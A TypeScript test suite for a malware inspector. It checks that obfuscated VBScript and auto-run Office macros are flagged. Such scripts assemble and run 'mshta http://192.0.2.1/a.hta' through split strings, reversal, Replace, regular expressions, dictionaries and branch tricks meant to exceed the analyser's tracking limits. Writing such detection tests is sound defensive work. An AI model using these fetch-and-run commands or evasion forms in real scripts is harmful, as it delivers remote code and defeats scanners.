/** Texts past a limit, or behind a pattern that is not followed, are in doubt wherever they go: never harmless. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { ourInspector } from '#inspect/testing/inspector.ts'
import { readBasic } from './basic.ts'
import { ANYWHERE_MAX as LIST_MAX } from './evaluate.ts'
import { ANYWHERE_MAX as DICTIONARY_MAX } from './objects.ts'
import { ALTERNATIVES_MAX, REMEMBERED_MAX } from './values.ts'

const inspector = await ourInspector()
/** None of the pieces looks like a command. */
const PIECES = ['msh', 'ta ht', 'tp://192.0.2.1/a.hta']
const EVIL = PIECES.join('')
const RUN = 'CreateObject("WScript.Shell").Run'

/** One of `count` values, the last of which is the piece. */
const chosen = (name: string, count: number, piece: string): string =>
  `Select Case Hour(Now)\n${Array.from({ length: count - 1 }, (_, i) => `Case ${i}: ${name} = "${name}${i} "\n`).join('')}Case Else: ${name} = "${piece}"\nEnd Select\n`

type Outcome = 'found' | 'refused' | 'clean'

function script(source: string): Outcome {
  const { findings, obstacle } = inspector.inspect(Buffer.from(source, 'latin1'), { name: 'a.vbs' })
  if (findings.some(({ severity }) => severity === 'malicious' || severity === 'suspicious')) return 'found'
  return obstacle === null ? 'clean' : 'refused'
}

function macro(body: string, rest = ''): Outcome {
  const text = `Sub AutoOpen()\n${body}\nShell s\nEnd Sub\n${rest}`
  const { effects, isCut } = readBasic([{ name: 'a', text }])
  if (effects.some((effect) => effect.kind === 'start' && effect.text === EVIL)) return 'found'
  return isCut ? 'refused' : 'clean'
}

const MANY = ALTERNATIVES_MAX + 1
const TWO = chosen('a', MANY, EVIL.slice(0, 8)) + chosen('b', MANY, EVIL.slice(8))
const REVERSED = chosen('a', MANY, 'ath.a/1.2.0.291//:pt') + chosen('b', MANY, 'th athsm')

suite('combinations', () => {
  const two = (count: number): string =>
    `${chosen('a', count, EVIL.slice(0, 8))}${chosen('b', ALTERNATIVES_MAX, EVIL.slice(8))}s = a & b\n`
  const three = (count: number): string =>
    `${chosen('a', count, PIECES[0] ?? '')}${chosen('b', 4, PIECES[1] ?? '')}${chosen('c', 4, PIECES[2] ?? '')}s = a & b & c\n`
  const one = (count: number): string => `${chosen('a', count, EVIL.slice(0, 8))}s = a & "${EVIL.slice(8)}"\n`
  for (const [name, of, max] of [
    ['one variable', one, REMEMBERED_MAX],
    ['two variables', two, ALTERNATIVES_MAX],
    ['three variables', three, 4],
  ] as const)
    for (const [kind, outcome] of [
      ['script', (text: string) => script(`${text}${RUN} s\n`)],
      ['macro', (text: string) => macro(text)],
    ] as const)
      test(`of ${name} of a ${kind}`, () => {
        assert.equal(outcome(of(max)), 'found', 'at the limit')
        for (const count of [max + 1, 2 * max, REMEMBERED_MAX + 8])
          assert.notEqual(outcome(of(count)), 'clean', `with ${count}`)
      })
})

/** Statements after which `s` is the command, if the right value of each variable is taken. */
const FORMS: Record<string, string | [body: string, rest: string]> = {
  'a join': `${TWO}s = a & b`,
  'a sum': `${TWO}s = a + b`,
  Replace: `${TWO}s = Replace("XY", "X", a)\ns = Replace(s, "Y", b)`,
  'Replace of it': `${TWO}s = Replace(a & "#" & b, "#", "")`,
  'Split and Join': `${TWO}s = Join(Split(a & "#" & b, "#"), "")`,
  'Join of a list': `${TWO}s = Join(Array(a, b), "")`,
  'an element': `${TWO}l = Split(a & b & "#x", "#")\ns = l(0)`,
  'For Each': `${TWO}For Each p In Split(a & b & "#x", "#")\ns = p\nNext`,
  'an unknown element': `${TWO}l = Array(a & b, "notepad")\ns = l(Minute(Now))`,
  'a stored element': `${TWO}Dim l(3)\nl(1) = a & b\ns = l(1)`,
  'Select Case': `${TWO}Select Case Minute(Now)\nCase 1: s = a & b\nCase Else: s = "notepad"\nEnd Select`,
  'a dictionary': `${TWO}Set d = CreateObject("Scripting.Dictionary")\nd.Add "k", a & b\ns = d.Item("k")`,
  'a set entry': `${TWO}Set d = CreateObject("Scripting.Dictionary")\nd("k") = a & b\ns = d("k")`,
  'a function': [`${TWO}s = f(a, b)`, 'Function f(x, y)\nf = x & y\nEnd Function'],
  'by reference': [`${TWO}g s, a, b`, 'Sub g(r, x, y)\nr = x & y\nEnd Sub'],
  StrReverse: `${REVERSED}s = StrReverse(a & b)`,
  'the middle': `${TWO}s = Mid("##" & a & b, 3)`,
  'the end': `${TWO}t = "#" & a & b\ns = Right(t, Len(t) - 1)`,
  'Trim and LCase': `${TWO}s = LCase(Trim(a & b))`,
  'a branch on it': `${TWO}t = a & b\nIf t = "x" Then s = "notepad" Else s = t`,
  Execute: `${TWO}s = a & b\nExecute "s = s & Empty"`,
}
const MACRO_FORMS: Record<string, string> = {
  IIf: `${TWO}s = IIf(Minute(Now) > 3, a & b, "notepad")`,
  Choose: `${TWO}s = Choose(Minute(Now), "notepad", a & b)`,
  Switch: `${TWO}s = Switch(Minute(Now) > 3, a & b, True, "notepad")`,
  'Mid that is assigned': `${TWO}s = Space(200)\nMid(s, 1, 8) = a\nMid(s, 9) = b\ns = Trim(s)`,
}

const partsOf = (form: string | [string, string]): [string, string] => (typeof form === 'string' ? [form, ''] : form)

suite('past the limit', () => {
  for (const [name, form] of Object.entries(FORMS))
    test(`of a script: ${name}`, () => {
      const [body, rest] = partsOf(form)
      assert.notEqual(script(`${body}\n${RUN} s\n${rest}`), 'clean')
    })
  for (const [name, form] of Object.entries({ ...FORMS, ...MACRO_FORMS }))
    test(`of a macro: ${name}`, () => assert.notEqual(macro(...partsOf(form)), 'clean'))
  test('of a class', () => {
    const classes = chosen('a', MANY, 'WScri') + chosen('b', MANY, 'pt.Shell')
    assert.notEqual(script(`${classes}CreateObject(a & b).Run "a.b"`), 'clean')
  })
})

suite('pieces among more elements than are followed', () => {
  const [head, tail] = [EVIL.slice(0, 3), EVIL.slice(3)]
  const cases: Record<string, string> = {
    'of a list': `Dim l(${LIST_MAX + 9})\nFor i = 0 To ${LIST_MAX}\nl(i) = "x" & i\nNext\nl(${LIST_MAX + 1}) = "${head}"\ns = l(Hour(Now)) & "${tail}"`,
    'of a dictionary': `Set d = CreateObject("Scripting.Dictionary")\nFor i = 0 To ${DICTIONARY_MAX}\nd.Add "k" & i, "x" & i\nNext\nd.Add "k", "${head}"\ns = d(CStr(Hour(Now))) & "${tail}"`,
  }
  for (const [name, body] of Object.entries(cases)) {
    test(`${name}, of a script`, () => assert.notEqual(script(`${body}\n${RUN} s\n`), 'clean'))
    test(`${name}, of a macro`, () => assert.notEqual(macro(body), 'clean'))
  }
})

suite('a pattern', () => {
  const replaced = (pattern: string, text: string, by = ''): string =>
    `Set r = New RegExp\nr.Global = True\nr.Pattern = "${pattern}"\ns = r.Replace("${text}", "${by}")\n`
  const cases: Record<string, string> = {
    'that is simple': replaced('x', `x${EVIL}`),
    'with a group': replaced('(x|y)+z', 'mxyzshta htxztp://192.0.2.1/a.hta'),
    'with a part that is kept': replaced('(.)#', 'm#s#h#ta h#t#t#p://192.0.2.1/a.hta', '$1'),
    'with a number of repetitions': replaced('x{2}', 'mxxshta htxxtp://192.0.2.1/a.hta'),
    'that looks ahead': replaced('x(?=[st])', 'mxshta hxttp://192.0.2.1/a.hta'),
    'with several repetitions': replaced('x+y*z+', 'mxzshta htxyyztp://192.0.2.1/a.hta'),
    'with an end': replaced('x$', 'mshta http://192.0.2.1/a.htax'),
    'with an error': replaced('(', EVIL),
    'of a text in pieces': `${TWO}Set r = New RegExp\nr.Pattern = "(#)"\ns = r.Replace(a & b, "")\n`,
    'of a reversed text': `${replaced('(x)', 'ath.a/1.2.0.291//:ptxth atxhsm')}s = StrReverse(s)\n`,
    'of a text that is cut': `${replaced('(x)', '####mxshta htxtp://192.0.2.1/a.hta')}s = Mid(s, 5)\n`,
    'of a text that is split': `${replaced('(x)', 'q#mxshta htxtp://192.0.2.1/a.hta')}s = Split(s, "#")(1)\n`,
  }
  for (const [name, body] of Object.entries(cases)) {
    test(`${name}, of a script`, () => assert.notEqual(script(`${body}${RUN} s\n`), 'clean'))
    test(`${name}, of a macro`, () => assert.notEqual(macro(body), 'clean'))
  }
})

suite('nothing is in doubt', () => {
  const switches = Array.from({ length: 9 }, (_, i) => `If Hour(Now) = ${i} Then s = s & " /x${i}"\n`).join('')
  const cases: Record<string, string> = {
    'where the program is known': `s = "robocopy c:\\a d:\\b"\n${switches}${RUN} s\n`,
    'of texts that nothing starts': `${TWO}MsgBox a & b\n`,
    'of files that are opened': `${TWO}CreateObject("Scripting.FileSystemObject").OpenTextFile a & b\n`,
    'of an unknown text': 'Set r = New RegExp\nr.Pattern = "(a)+b"\nMsgBox r.Replace(InputBox("?"), "")\n',
  }
  for (const [name, text] of Object.entries(cases)) test(name, () => assert.equal(script(text), 'clean'))
})
